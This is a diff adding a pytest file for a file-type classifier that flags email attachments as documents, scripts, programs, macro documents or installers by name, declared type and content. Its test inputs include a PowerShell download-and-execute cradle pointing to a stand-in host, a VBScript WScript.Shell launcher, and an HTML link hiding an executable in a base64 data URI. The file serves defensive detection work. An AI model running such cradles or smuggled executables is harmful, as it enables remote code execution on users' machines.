@@ -1,0 +1,86 @@
+"""A part is whatever any of its names, its declared type or its content says."""
+
+import base64
+import struct
+
+import pytest
+
+from rules.facts import By, Kind
+from rules.reading.filetype import signs_of
+
+PE = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0L\x01" + b"\0" * 200
+
+
+def told(names, declared, octets):
+    return {(sign.kind, sign.by) for sign in signs_of(names, declared, octets)}
+
+
+def test_each_source_is_told_apart():
+    assert told(["scan.pdf"], "application/hta", PE) == {
+        (Kind.DOCUMENT, By.NAME),
+        (Kind.SCRIPT, By.DECLARED),
+        (Kind.PROGRAM, By.CONTENT),
+    }
+
+
+@pytest.mark.parametrize("declared", ["application/x-msdownload", "APPLICATION/JAVASCRIPT", "application/java-archive"])
+def test_a_declared_type_is_enough(declared):
+    assert By.DECLARED in {by for _, by in told([], declared, b"text")}
+
+
+@pytest.mark.parametrize(
+    ("text", "kind"),
+    [
+        (b"IEX (New-Object Net.WebClient).DownloadString('https://a.example/')", Kind.SCRIPT),
+        (b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n', Kind.SCRIPT),
+        (b"[InternetShortcut]\r\nURL=https://a.example/\r\n", Kind.SHORTCUT),
+    ],
+)
+def test_a_script_in_a_text_file_counts_and_in_a_mails_text_does_not(text, kind):
+    assert (kind, By.CONTENT) in told(["notes.txt"], "text/plain", text)
+    assert (kind, By.CONTENT) in told([], "application/octet-stream", text)
+    assert told([], "text/plain", text) == {(Kind.TEXT, By.CONTENT)}
+
+
+def test_a_page_is_looked_at_by_name_even_when_it_begins_as_text():
+    page = b"Hello " + b'<a href="data:x;base64,' + base64.b64encode(PE) + b'">open</a>'
+    page = page.replace(base64.b64encode(PE), base64.b64encode(b"MZ\x90\0\x03\0" + PE))
+    assert (Kind.ACTIVE_CONTENT, By.CONTENT) in told(["message.htm"], None, page)
+
+
+def test_a_hosts_name_is_no_program():
+    assert told(["Minutes of city.com"], "text/plain", b"Hello") == {(Kind.TEXT, By.CONTENT)}
+    assert (Kind.PROGRAM, By.NAME) in told(["payload.com"], None, b"\xb4\x4c\xcd\x21" + bytes(60))
+    assert (Kind.PROGRAM, By.CONTENT) in told(["city.com"], None, PE)
+
+
+def test_a_message_is_text_whatever_its_name():
+    assert told(["note.eml"], None, b"From: a\r\n\r\nx") >= {(Kind.MESSAGE, By.NAME)}
+    assert told(["note.eml"], None, PE) == {(Kind.PROGRAM, By.CONTENT)}
+
+
+def test_macros_are_told_from_within(compound_file):
+    octets = compound_file({"WordDocument": bytes(600), "Macros/VBA/dir": b"x"})
+    assert (Kind.MACRO_DOCUMENT, By.CONTENT) in told(["letter.doc"], "application/msword", octets)
+
+
+def test_a_debian_package_is_an_installer():
+    octets = b"!<arch>\ndebian-binary   1410122664  0     0     100644  4         `\n2.0\n"
+    assert (Kind.INSTALLER, By.CONTENT) in told(["a.bin"], None, octets)
+
+
+def test_calendars_and_unknown_octets():
+    assert told([], "text/calendar", b"BEGIN:VCALENDAR\r\n") == {(Kind.CALENDAR, By.CONTENT)}
+    assert told([], None, bytes([0, 7, 0, 200] * 64)) == {(Kind.UNKNOWN, By.CONTENT)}
+    assert told([], None, b"") == set()
+
+
+def test_libmagic_is_asked_for_what_the_table_does_not_know():
+    assert told([], None, b"SQLite format 3\0" + bytes(100)) == {(Kind.UNKNOWN, By.CONTENT)}
+    assert told([], None, bytes(1_040) + b"\x7f\x13" + bytes(2_000)) == {(Kind.DISK_IMAGE, By.CONTENT)}
+
+
+def test_old_machines_programs_are_not_seen_in_data():
+    assert told([], None, b"\x4c\x01\x05\x00" + bytes(16) + b"\xe0\0\x02\x01" + bytes(99)) == {
+        (Kind.UNKNOWN, By.CONTENT)
+    }
